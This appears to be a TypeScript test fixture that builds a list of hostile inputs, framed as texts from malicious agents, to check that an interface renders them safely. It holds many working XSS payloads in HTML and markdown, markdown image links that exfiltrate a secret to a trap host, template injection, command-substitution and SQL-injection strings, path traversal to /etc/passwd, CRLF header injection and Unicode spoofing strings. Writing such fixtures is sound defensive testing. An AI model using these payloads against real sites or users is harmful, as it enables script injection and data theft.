/** Texts of agents that mean harm. As HTML, each that can do something calls the trap or sets `pwned`. */

import { hostileFiles } from "../support/trap.js";

/** About a hundred. */
export function hostileTexts(trap: string): string[] {
  const run = (name: string) => `window.pwned=1;fetch('${trap}/${name}')`;
  return [
    ...elements(trap, run),
    ...markdown(trap, run),
    ...names(run),
    ...hostileFiles(trap).map(({ content }) => content),
  ];
}

type Run = (name: string) => string;

function elements(trap: string, run: Run): string[] {
  const handlers = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
  ];
  return [
    `<script>${run("script")}</script>`,
    `</script><script>${run("closed")}</script>`,
    `<script src="${trap}/source.js"></script>`,
    `<script type="module">import "${trap}/module.js"</script>`,
    ...handlers.map((one) => `<img src="x" ${one}="${run(one)}" autofocus tabindex=1>`),
    ...handlers.map(
      (one) => `<svg ${one}="${run(`svg-${one}`)}"><animate onbegin="${run("begin")}"/></svg>`,
    ),
    `<details open ontoggle="${run("details")}">x</details>`,
    `<video src="${trap}/video" onerror="${run("video")}"></video><audio src="${trap}/audio"></audio>`,
    `<iframe src="javascript:${run("frame")}"></iframe><iframe src="${trap}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.${run("srcdoc")}</script>"></iframe>`,
    `<object data="${trap}/object"></object><embed src="${trap}/embed">`,
    `<link rel="stylesheet" href="${trap}/style"><link rel="prefetch" href="${trap}/prefetch">`,
    `<style>@import url(${trap}/import);body{background:url(${trap}/background)}</style>`,
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><base href="${trap}/base/">`,
    `<form action="${trap}/form"><input autofocus onfocus="this.form.submit()"></form>`,
    `<a href="javascript:${run("link")}">here</a>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run("math")}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run("noscript")}>">`,
    `<template><img src=x onerror="${run("template")}"></template>`,
    `"><img src=x onerror="${run("attribute")}">`,
    `'><img src=x onerror='${run("single")}'>`,
    `\` onmouseover=${run("backtick")} x=\``,
    `--><img src=x onerror="${run("comment")}"><!--`,
    `]]><img src=x onerror="${run("cdata")}">`,
    `<x onclick="${run("own")}" style="position:fixed;inset:0;z-index:9">click</x>`,
    `<body onpageshow="${run("body")}"><html manifest="${trap}/manifest">`,
    `<input type=image src="${trap}/input" onerror="${run("input")}">`,
    `<button popovertarget=p>x</button><div id=p popover onbeforetoggle="${run("popover")}">y</div>`,
    `<div style="background-image:url(${trap}/inline)">x</div>`,
    `<isindex action="javascript:${run("isindex")}"><keygen autofocus onfocus="${run("keygen")}">`,
  ];
}

function markdown(trap: string, run: Run): string[] {
  return [
    `![secret](${trap}/picture?secret=1)`,
    `![x][i]\n\n[i]: ${trap}/reference "title"`,
    `[x](javascript:${run("md-link")})`,
    `[x](JaVaScRiPt&colon;${run("md-entity")})`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[x](vbscript:msgbox)`,
    `[x](\u0001javascript:${run("md-control")})`,
    `<javascript:${run("autolink")}>`,
    `<${trap}/autolink>`,
    `${trap}/plain`,
    `[x](<${trap}/"onmouseover=${run("quote")}>)`,
    `| a | b |\n|---|---|\n| <img src=x onerror="${run("table")}"> | ![](${trap}/cell) |`,
    `- [ ] <img src=x onerror="${run("task")}">\n- [x] ![](${trap}/task)`,
    `\`\`\`html\n<img src=x onerror="${run("code")}">\n\`\`\``,
    `[^1]\n\n[^1]: <img src=x onerror="${run("note")}">`,
    `# <img src=x onerror="${run("heading")}">`,
    `~~<img src=x onerror="${run("struck")}">~~`,
    `<div>\n\n![](${trap}/in-html)\n\n</div>`,
    `> `.repeat(2_000),
    `${"*a ".repeat(2_000)}`,
    `${"[".repeat(2_000)}`,
    `![](${"(".repeat(500)}`,
  ];
}

function names(run: Run): string[] {
  return [
    ...[
      "__proto__",
      "constructor",
      "prototype",
      "toString",
      "hasOwnProperty",
      "then",
      "$$typeof",
      "_owner",
      "ref",
    ],
    ...[
      "{{constructor.constructor('window.pwned=1')()}}",
      `\${${run("template-literal")}}`,
      "<%= 7*7 %>",
    ],
    ...[
      "javascript:window.pwned=1",
      "//evil.test",
      "\\\\evil.test\\x",
      "file:///etc/passwd",
      "data:text/html,x",
    ],
    ...[
      "annexe\u202etxt.exe",
      "pay\u200bpal",
      "\u2066a\u2069",
      "\ufeffbom",
      "a\u0000b",
      "tag\u{e0041}",
      "x\u0301\u0301",
    ],
    ...[
      "'; drop table threads; --",
      "$(id)",
      "`id`",
      "%0d%0aset-cookie: a=1",
      "../../../etc/passwd",
      "..",
      ".",
    ],
    ...[
      "#/login?token=tks_stolen",
      "#/threads/x",
      "?x=1#y",
      "&amp;lt;script&amp;gt;",
      "&#x3c;img src=x onerror=pwned=1&#x3e;",
    ],
    ...["𝕏".repeat(300), "long".repeat(3_000), "﷽".repeat(50), "🏳️‍🌈", "שלום", "مرحبا"],
  ];
}
